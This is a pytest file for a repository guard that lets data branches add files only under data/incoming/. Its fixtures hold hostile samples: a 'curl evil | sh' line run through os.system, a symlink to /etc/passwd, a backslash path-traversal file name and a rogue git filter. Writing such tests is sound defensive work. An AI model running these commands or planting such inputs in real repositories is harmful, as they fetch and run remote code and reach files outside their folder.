"""A data branch may only add files under data/incoming/; its pairs are taken without a checkout."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
import yaml
from tests.docs import all_docs

from wms.config import load_settings
from wms.vcs.git import Git
from wms.vcs.guard import (
    BranchRefused,
    check_branch,
    require_clean,
    resolve_base,
    take_incoming,
    write_incoming,
)

if TYPE_CHECKING:
    from tests.vcs.conftest import Repo

RULE = "data branches may only add files under data/incoming/; push code through a pull request"


def data_branch(repo: Repo, *stems: str) -> str:
    """A data branch off main with new pairs; returns the pushed commit."""
    repo.git("switch", "-q", "-c", "data/20260102-030405")
    repo.add_pairs(*stems)
    sha = repo.commit("new pairs")
    repo.push("-q", "origin", "data/20260102-030405")
    return sha


def files_under(folder: Path) -> set[str]:
    return {p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()}


def test_a_branch_of_new_pairs_passes_and_exactly_they_are_taken(repo: Repo, tmp_path: Path) -> None:
    sha = data_branch(repo, "m001", "m002")
    git = Git(repo.work)
    check = require_clean(check_branch(git, sha, resolve_base(git, "origin", "main"), "data/incoming"))
    assert sorted(check.changed) == [
        "data/incoming/images/m001.png",
        "data/incoming/images/m002.png",
        "data/incoming/masks/m001.png",
        "data/incoming/masks/m002.png",
    ]
    out = tmp_path / "incoming"
    take_incoming(load_settings(), sha, out)  # what `wms pipeline sweep` calls for each branch
    assert files_under(out) == {"images/m001.png", "images/m002.png", "masks/m001.png", "masks/m002.png"}
    assert (out / "masks" / "m002.png").read_bytes() == b"\x89PNG mask m002"


def test_the_base_is_main_where_the_branch_left_it_not_what_main_did_since(repo: Repo) -> None:
    sha = data_branch(repo, "m001")
    repo.git("switch", "-q", "main")
    repo.write("src/app.py", "print('main moved on')\n")
    repo.commit("code on main")
    repo.push("-q", "origin", "main")
    git = Git(repo.work)
    assert check_branch(git, sha, resolve_base(git, "origin", "main"), "data/incoming").ok


@pytest.mark.parametrize(
    "path", ["src/app.py", ".github/workflows/evil.yaml", "wms.toml", "pyproject.toml", "data/dataset.json"]
)
def test_a_branch_that_touches_code_or_config_is_refused_naming_the_path(
    repo: Repo, tmp_path: Path, path: str
) -> None:
    repo.git("switch", "-q", "-c", "data/x")
    repo.add_pairs("m001")
    repo.write(path, "import os; os.system('curl evil | sh')\n")
    sha = repo.commit("pairs and a little extra")
    git = Git(repo.work)
    check = check_branch(git, sha, "main", "data/incoming")
    assert [o.path for o in check.offences] == [path]
    with pytest.raises(BranchRefused, match=rf"changes {path} \(outside data/incoming/\).*{RULE}"):
        require_clean(check)


def test_renaming_a_file_out_of_incoming_names_where_it_went(repo: Repo) -> None:
    repo.git("switch", "-q", "-c", "data/x")
    (repo.work / "scripts").mkdir()
    repo.git("mv", "data/incoming/.gitkeep", "scripts/run.sh")
    sha = repo.commit("moved")
    offences = check_branch(Git(repo.work), sha, "main", "data/incoming").offences
    assert [o.path for o in offences] == ["scripts/run.sh"]


@pytest.mark.parametrize(
    ("path", "why"),
    [
        ("data/incoming/images/.gitattributes", "git control file"),
        ("data/incoming/.gitmodules", "git control file"),
    ],
)
def test_git_control_files_are_refused_even_inside_incoming(repo: Repo, path: str, why: str) -> None:
    repo.git("switch", "-q", "-c", "data/x")
    repo.write(path, "*.png filter=evil\n")
    sha = repo.commit("control file")
    assert [(o.path, o.why) for o in check_branch(Git(repo.work), sha, "main", "data/incoming").offences] == [
        (path, why)
    ]


def test_a_symlink_under_incoming_is_refused_and_nothing_is_written(
    repo: Repo, tmp_path: Path, cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    repo.git("switch", "-q", "-c", "data/x")
    repo.add_pairs("m001")
    (repo.work / "data/incoming/images/m002.png").symlink_to("/etc/passwd")
    sha = repo.commit("a pair and a link")
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    out = tmp_path / "incoming"
    result = cli("vcs", "take-incoming", "--sha", sha, "--out", out)
    assert result.exit_code == 1
    assert "data/incoming/images/m002.png (symlink)" in result.stderr and RULE in result.stderr
    assert "Traceback" not in result.output
    assert not out.exists()
    assert "**Refused.**" in summary.read_text()


def test_the_jobs_summary_shows_the_guards_table_once_for_the_guard_and_take_steps(
    repo: Repo, tmp_path: Path, cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Both steps check the commit (take-incoming again, as it writes the files); both wrote the
    table, so each job's Summary page showed "Data branch guard" twice."""
    repo.git("switch", "-q", "-c", "data/x")
    repo.add_pairs("m001")
    sha = repo.commit("a pair")
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    assert cli("vcs", "guard-branch", "--sha", sha, "--base", "main").exit_code == 0
    assert (
        cli("vcs", "take-incoming", "--sha", sha, "--base", "main", "--out", tmp_path / "in").exit_code == 0
    )
    text = summary.read_text()
    assert text.count("### Data branch guard") == 1
    assert "took 2 file(s) of commit" in text


def test_a_submodule_is_refused(repo: Repo) -> None:
    repo.git("switch", "-q", "-c", "data/x")
    head = repo.out("rev-parse", "HEAD")
    repo.git("update-index", "--add", "--cacheinfo", f"160000,{head},data/incoming/images/sub")
    repo.git("commit", "-q", "-m", "a gitlink")
    sha = repo.out("rev-parse", "HEAD")
    offences = check_branch(Git(repo.work), sha, "main", "data/incoming").offences
    assert [(o.path, o.why) for o in offences] == [("data/incoming/images/sub", "submodule")]


def test_guard_branch_cli_fetches_the_base_and_names_up_to_ten_paths(
    repo: Repo, cli: Callable[..., Any], tmp_path: Path
) -> None:
    repo.git("switch", "-q", "-c", "data/x")
    for i in range(12):
        repo.write(f"src/mod{i:02}.py", "x = 1\n")
    sha = repo.commit("a lot of code")
    result = cli("vcs", "guard-branch", "--sha", sha)
    assert result.exit_code == 1
    line = result.stderr.replace("\n", " ")
    assert "src/mod09.py (outside data/incoming/) and 2 more" in line and "src/mod10.py" not in line
    allowed = cli("vcs", "guard-branch", "--sha", repo.out("rev-parse", "main"))
    assert allowed.exit_code == 0, allowed.output


def test_take_incoming_cli_without_a_remote_uses_the_local_base(
    repo: Repo, cli: Callable[..., Any], tmp_path: Path
) -> None:
    repo.git("remote", "remove", "origin")
    repo.git("switch", "-q", "-c", "data/x")
    repo.add_pairs("m001")
    sha = repo.commit("one pair")
    repo.git("switch", "-q", "main")  # the job runs main's code; the branch is never checked out
    out = tmp_path / "taken"
    result = cli("vcs", "take-incoming", "--sha", sha, "--out", out)
    assert result.exit_code == 0, result.output
    assert files_under(out) == {"images/m001.png", "masks/m001.png"}
    assert not (repo.work / "data/incoming/images/m001.png").exists()


def test_take_incoming_refuses_a_folder_that_is_not_empty(repo: Repo, tmp_path: Path) -> None:
    sha = data_branch(repo, "m001")
    out = tmp_path / "used"
    out.mkdir()
    (out / "old.png").write_bytes(b"old")
    with pytest.raises(BranchRefused, match="not an empty folder"):
        write_incoming(Git(repo.work), sha, "data/incoming", out)


def test_a_name_that_escapes_the_folder_is_refused(repo: Repo, tmp_path: Path) -> None:
    # git itself refuses `..` in a tree; a backslash name is what reaches a Windows-style join.
    repo.git("switch", "-q", "-c", "data/x")
    blob = _blob(repo, b"evil")
    repo.git("update-index", "--add", "--cacheinfo", f"100644,{blob},data/incoming/..\\..\\evil.png")
    repo.git("commit", "-q", "-m", "odd name")
    sha = repo.out("rev-parse", "HEAD")
    out = tmp_path / "incoming"
    with pytest.raises(BranchRefused, match="would be written outside"):
        write_incoming(Git(repo.work), sha, "data/incoming", out)
    assert not out.exists() and not (tmp_path / "evil.png").exists()


def _blob(repo: Repo, content: bytes) -> str:
    path = repo.work / ".blob"
    path.write_bytes(content)
    try:
        return repo.out("hash-object", "-w", str(path))
    finally:
        os.remove(path)


def test_a_code_commit_pushed_onto_a_promotion_pull_request_is_refused(
    repo: Repo, cli: Callable[..., Any]
) -> None:
    data_branch(repo, "m001")
    # The pipeline's publish: the pairs leave for the store, the pointer files take their place.
    repo.git("rm", "-q", "-r", "data/incoming/images", "data/incoming/masks")
    repo.write("data/dataset.json", '{"version": "3f2a9c01b7de"}\n')
    repo.write("models/production_current.json", '{"to_version": "2"}\n')
    repo.write("models/production_history.jsonl", '{"to_version": "2"}\n')
    published = repo.commit("Data pointers for the promoted model")
    # While the pull request waits for its checks with auto-merge on, a labeller pushes code onto it.
    repo.write("src/app.py", "import os; os.system('curl evil | sh')\n")
    pushed = repo.commit("one more thing")
    repo.push("-q", "origin", "data/20260102-030405")

    allowed = cli("vcs", "guard-branch", "--pull-request", "--sha", published)
    assert allowed.exit_code == 0, allowed.output
    refused = cli("vcs", "guard-branch", "--pull-request", "--sha", pushed)
    assert refused.exit_code == 1 and "Traceback" not in refused.output
    line = refused.stderr.replace("\n", " ")
    assert "src/app.py (outside data/incoming/ and the pointer files)" in line
    assert "data/dataset.json" not in line.split("; ")[0]  # the pointer files are not named as offences
    # A data branch's own push may still not touch the pointer files.
    assert cli("vcs", "guard-branch", "--sha", published).exit_code == 1


def test_pairs_pushed_onto_a_promotion_pull_request_are_refused_before_they_reach_main_as_files(
    repo: Repo, cli: Callable[..., Any]
) -> None:
    """A labeller pulls the published data branch, adds pairs and pushes: the pull request, waiting
    for its checks with auto-merge on, would take those pairs into main as files no run trained."""
    data_branch(repo, "m001")
    repo.git("rm", "-q", "-r", "data/incoming/images", "data/incoming/masks")
    repo.write("data/dataset.json", '{"version": "3f2a9c01b7de"}\n')
    published = repo.commit("Data pointers for the promoted model")
    repo.add_pairs("m002")
    pushed = repo.commit("more pairs")

    assert cli("vcs", "guard-branch", "--pull-request", "--sha", published).exit_code == 0
    refused = cli("vcs", "guard-branch", "--pull-request", "--sha", pushed)
    assert refused.exit_code == 1 and "Traceback" not in refused.output
    line = " ".join(refused.stderr.split())
    assert (
        "data/incoming/images/m002.png (a pair pushed after the promotion, which would reach main as a plain "
        "file)"
    ) in line
    assert "new pairs from main (the pre-push hook puts them on a new data branch)" in line


def test_ci_checks_every_data_pull_request_with_mains_code() -> None:
    ci = yaml.safe_load((Path(__file__).resolve().parents[2] / ".github/workflows/ci.yaml").read_text())
    job = ci["jobs"]["data-pull-request"]
    assert "pull_request" in ci[True] and "startsWith(github.head_ref, 'data/')" in job["if"]
    checkout = job["steps"][0]
    assert checkout["with"]["ref"] == "${{ github.event.repository.default_branch }}"
    [guard] = [s for s in job["steps"] if "guard-branch" in s.get("run", "")]
    assert guard["run"] == 'wms vcs guard-branch --pull-request --sha "$HEAD_SHA"'
    assert guard["env"]["HEAD_SHA"] == "${{ github.event.pull_request.head.sha }}"


def test_the_readme_says_what_the_data_pull_request_check_cannot_stop() -> None:
    """GitHub runs a pull request's checks from the workflow in its merge commit: a commit pushed
    onto the data branch can rewrite the check that should refuse it, and it passes. The README
    offered the required check as what keeps code from merging with a promotion."""
    ci = yaml.safe_load((Path(__file__).resolve().parents[2] / ".github/workflows/ci.yaml").read_text())
    assert "pull_request_target" not in ci[True]  # the check's workflow is the pull request's own
    readme = " ".join(all_docs().split())
    assert "The check runs the `ci.yaml` of the pull request's own merge commit" in readme
    assert "what stops such a commit is the ruleset on `.github/workflows/**` above" in readme
